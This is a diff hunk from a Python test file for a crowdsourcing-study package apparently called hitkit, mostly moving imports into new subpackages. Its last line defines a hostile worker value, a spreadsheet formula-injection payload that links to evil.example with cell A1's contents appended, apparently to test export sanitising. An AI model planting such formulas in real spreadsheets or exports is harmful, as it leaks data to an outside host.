@@ -8,13 +8,13 @@ import pandas as pd
 import pytest
 from sqlalchemy import select
 
-from hitkit import admission, flow, security
-from hitkit.config import load_study
+from hitkit.worker import admission, flow, security
+from hitkit.study.config import load_study
 from hitkit.db.models import Hit, Study
 from hitkit.db.session import session_scope
-from hitkit.export import export_study
-from hitkit.scheduler import tick
-from hitkit.study import create_study, resolve_secret
+from hitkit.tables.export import export_study
+from hitkit.running.scheduler import tick
+from hitkit.study.stored import create_study, resolve_secret
 from tests.studies import pairwise_study
 
 HOSTILE_WORKER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
